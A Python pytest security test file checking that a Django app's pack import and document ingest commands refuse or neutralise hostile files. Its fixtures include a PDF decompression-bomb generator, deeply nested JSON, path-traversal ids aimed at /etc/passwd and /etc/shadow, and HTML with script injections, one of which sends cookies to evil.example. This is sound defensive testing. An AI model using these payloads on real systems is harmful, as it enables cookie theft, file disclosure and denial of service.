"""Malicious packs and documents through ``manage.py import_pack`` and ``manage.py ingest``
(the console has no upload; these are the ways files get in).

Each hostile file must end in a clear error naming the problem, within bounded time and
memory (each attempt's seconds and peak-memory growth are printed), and lose nothing: the
pack's current version, its documents and the other files of the same batch stay as they
were. A file of the kind an operator really has still goes in beside them.
"""

from __future__ import annotations

import contextlib
import io
import json
import time
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command

from tests.knowledge.conftest import TINY_PACK
from tests.security.tally import record

pytestmark = [pytest.mark.django_db, pytest.mark.slow]
MB = 1024 * 1024


def _peak_kb() -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1])
    return 0


class Measured:
    """Seconds and peak resident memory growth (MB) of one attempt."""

    def __init__(self) -> None:
        self.seconds = 0.0
        self.peak_mb = 0.0
        self.rows: list[str] = []

    def __call__(self, label: str, run: Callable[[], Any]) -> Any:
        with contextlib.suppress(OSError):  # Linux: reset the peak, so VmHWM is this attempt's
            Path("/proc/self/clear_refs").write_text("5")
        before = _peak_kb()
        started = time.monotonic()
        try:
            return run()
        finally:
            self.seconds = time.monotonic() - started
            self.peak_mb = max(0, _peak_kb() - before) / 1024
            self.rows.append(f"{label}: {self.seconds:.2f} s, peak +{self.peak_mb:.0f} MB")


@pytest.fixture
def measured() -> Iterator[Measured]:
    m = Measured()
    yield m
    print("\n".join(m.rows))


@pytest.fixture
def tiny(settings: Any, tmp_path: Path) -> Any:
    from knowledge.models import Pack
    from knowledge.packs.store import import_pack

    settings.SEARCH_BACKEND = "embedded"
    settings.SEARCH_INDEX_DIR = tmp_path / "search"
    import_pack(json.loads(json.dumps(TINY_PACK)))
    return Pack.objects.get(name="tiny")


def snapshot() -> tuple[Any, ...]:
    from knowledge.models import Document, Pack, PackVersion

    pack = Pack.objects.get(name="tiny")
    return (pack.current_version_id, pack.current_version.content_hash,
            PackVersion.objects.count(),
            sorted(Document.objects.values_list("external_id", "content_hash")))


def pack_with(**changes: Any) -> dict[str, Any]:
    pack = json.loads(json.dumps(TINY_PACK))
    pack["version"] = "2"
    for dotted, value in changes.items():
        target = pack
        *path, last = dotted.split("__")
        for key in path:
            target = target[key]
        target[last] = value
    return pack


def huge_network(nodes: int) -> dict[str, Any]:
    half = nodes // 2
    return {
        "schema_version": 1, "name": "tiny",
        "hypotheses": [{"id": f"h{i}", "name": f"Cause {i}"} for i in range(half)],
        "findings": [{"id": f"f{i}", "question": f"Question {i}?"} for i in range(half)],
        "links": [{"hypothesis": f"h{i}", "finding": f"f{i}",
                   "masses": [{"states": ["yes"], "mass": 1.0}]} for i in range(half)],
    }


PACKS: dict[str, tuple[Callable[[], bytes], str]] = {
    # name: (file bytes, a phrase the error must contain)
    "not a pack (a JSON list)": (lambda: b"[1, 2, 3]", "object"),
    "hypotheses of the wrong type": (
        lambda: json.dumps(pack_with(network__hypotheses="all of them")).encode(), "hypotheses"),
    "a link to a finding that does not exist": (
        lambda: json.dumps(pack_with(network__links=[
            {"hypothesis": "h-dead", "finding": "nowhere",
             "masses": [{"states": ["no"], "mass": 1.0}]}])).encode(), "nowhere"),
    "a mass above 1": (
        lambda: json.dumps(pack_with(network__links=[
            {"hypothesis": "h-dead", "finding": "q1",
             "masses": [{"states": ["no"], "mass": 7.5}]}])).encode(), "mass"),
    "a cycle in the question flow": (
        lambda: json.dumps(pack_with(network__flow={"q1": {"yes": "q2"}, "q2": {"yes": "q1"}}))
        .encode(), "cycle"),
    "nested 100,000 deep": (lambda: b"[" * 100_000 + b"]" * 100_000, "nest"),
    "100,000 nodes": (lambda: json.dumps(pack_with(network=huge_network(100_000))).encode(),
                      "limit"),
    "not UTF-8": (lambda: b"\xff\xfe{\x00", "UTF-8"),
}


@pytest.mark.parametrize("name", list(PACKS))
def test_a_malicious_pack_is_refused_clearly_and_loses_nothing(
    name: str, tiny: Any, tmp_path: Path, measured: Measured
) -> None:
    make, phrase = PACKS[name]
    path = tmp_path / "pack.json"
    path.write_bytes(make())
    before = snapshot()
    with pytest.raises(CommandError) as caught:
        measured(name, lambda: call_command("import_pack", str(path), "--replace"))
    message = str(caught.value)
    clear = phrase.lower() in message.lower() and "Traceback" not in message
    kept = snapshot() == before
    held = clear and kept and measured.peak_mb < 1024
    assert record("malicious packs", f"{name} ({measured.seconds:.1f} s, "
                  f"+{measured.peak_mb:.0f} MB)", held), (message[:500], kept)


def test_a_pack_file_reaching_out_of_its_directory_is_refused(
    tiny: Any, tmp_path: Path
) -> None:
    folder = tmp_path / "packdir"
    folder.mkdir()
    (tmp_path / "secret.txt").write_text("the operator's private notes")
    pack = pack_with()
    pack["documents"][0] = {"id": "tiny:guide", "kind": "article", "title": "Guide",
                            "file": "../secret.txt"}
    (folder / "pack.json").write_text(json.dumps(pack))
    before = snapshot()
    with pytest.raises(CommandError) as caught:
        call_command("import_pack", str(folder), "--replace")
    held = "outside the pack directory" in str(caught.value) and snapshot() == before
    assert record("malicious packs", "document file ../ out of the pack directory", held)


# -- documents ---------------------------------------------------------------------------------


def pdf_pages(pages: int, text_on_first: str = "Battery guide: charge it overnight.") -> bytes:
    """A PDF of ``pages`` pages sharing one small content stream (tiny file, many pages)."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    kids = " ".join(f"{5 + i} 0 R" for i in range(pages))
    objects.append(f"<< /Type /Pages /Count {pages} /Kids [{kids}] >>".encode())
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    content = f"BT /F1 12 Tf 72 720 Td ({text_on_first}) Tj ET".encode()
    objects.append(b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream")
    for _ in range(pages):
        objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
                       b"/Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>")
    return _pdf(objects)


def pdf_flate_bomb(expanded_mb: int) -> bytes:
    """One page whose content stream inflates to ``expanded_mb`` MB (a decompression bomb)."""
    squeezer = zlib.compressobj(9)
    chunk = b"0 0 m " * (MB // 6)
    body = b"".join(squeezer.compress(chunk) for _ in range(expanded_mb)) + squeezer.flush()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [4 0 R] >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(body) + body + b"\nendstream",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R >>",
    ]
    return _pdf(objects)


def _pdf(objects: list[bytes]) -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objects) + 1, xref))
    return out.getvalue()


HTML_WITH_SCRIPTS = """<html><head><title>Wi-Fi help</title>
<script>alert('in the head')</script><style>body{background:url(javascript:alert(2))}</style>
</head><body><h1>Wi-Fi help</h1><p>Turn the router off and on again.</p>
<script type="module">fetch('https://evil.example/'+document.cookie)</script>
<img src=x onerror="alert(3)"><noscript>enable scripts</noscript>
<a href="javascript:alert(4)">click here</a><iframe srcdoc="<script>alert(5)</script>"></iframe>
<p>Then check the cable.</p></body></html>"""


def ingest_one(tmp_path: Path, name: str, data: bytes) -> tuple[Any, dict[str, Any]]:
    """Ingest a folder holding the hostile file and a good one; (hostile outcome, outcomes)."""
    folder = tmp_path / "docs"
    folder.mkdir(exist_ok=True)
    (folder / name).write_bytes(data)
    (folder / "good.md").write_text("# Charging\n\nPlug the charger in for an hour first.\n")
    from knowledge.ingest.service import ingest_paths

    report = ingest_paths([folder], pack="tiny")
    outcomes = {Path(o.path).name: o for o in report.outcomes}
    return outcomes.get(name), outcomes


DOCUMENTS: dict[str, tuple[str, Callable[[], bytes], str]] = {
    # name: (file name, bytes, a phrase the refusal must contain; "" = it may go in, inert)
    "50 MB text file": ("huge.txt", lambda: b"the battery is dead. " * (50 * MB // 21), "MB"),
    "PDF with 20,000 pages": ("pages.pdf", lambda: pdf_pages(20_000), "pages"),
    "PDF decompression bomb (1 GB stream)": ("bomb.pdf", lambda: pdf_flate_bomb(1024), "PDF"),
    "JSON documents nested 100,000 deep": (
        "deep.json", lambda: b"[" * 100_000 + b"]" * 100_000, "nest"),
    "path-traversal document ids": ("escape.json", lambda: json.dumps([
        {"id": "../../../../tmp/askfew-escape", "title": "../../etc/passwd",
         "text": "Restart the laptop."},
        {"id": "/etc/shadow", "title": "x", "text": "Check the charger."}]).encode(), ""),
    "scripts in HTML": ("scripts.html", lambda: HTML_WITH_SCRIPTS.encode(), ""),
}


@pytest.mark.parametrize("name", list(DOCUMENTS))
def test_a_malicious_document_is_refused_or_inert_and_the_batch_goes_on(
    name: str, tiny: Any, tmp_path: Path, measured: Measured
) -> None:
    from knowledge.models import Document

    file_name, make, phrase = DOCUMENTS[name]
    data = make()
    hostile, outcomes = measured(name, lambda: ingest_one(tmp_path, file_name, data))
    good_in = outcomes["good.md"].status == "ingested"
    if phrase:
        held = (hostile is not None and hostile.status == "failed"
                and phrase.lower() in (hostile.reason or "").lower())
        detail = hostile.reason if hostile is not None else None
    else:
        texts = " ".join(Document.objects.filter(pack__name="tiny", origin="ingest")
                         .values_list("text", flat=True))
        ids = list(Document.objects.filter(pack__name="tiny").values_list("external_id",
                                                                        flat=True))
        held = (
            hostile is not None
            and "alert" not in texts and "evil.example" not in texts
            and "javascript:" not in texts
            and all(".." not in i and not i.startswith("/") and i.startswith("tiny:")
                    for i in ids)
            and not Path("/tmp/askfew-escape").exists()
        )
        detail = (hostile.status if hostile else None, ids, texts[:300])
    held = held and good_in and measured.peak_mb < 1024
    assert record("malicious documents", f"{name} ({measured.seconds:.1f} s, "
                  f"+{measured.peak_mb:.0f} MB)", held), (detail, good_in, measured.peak_mb)
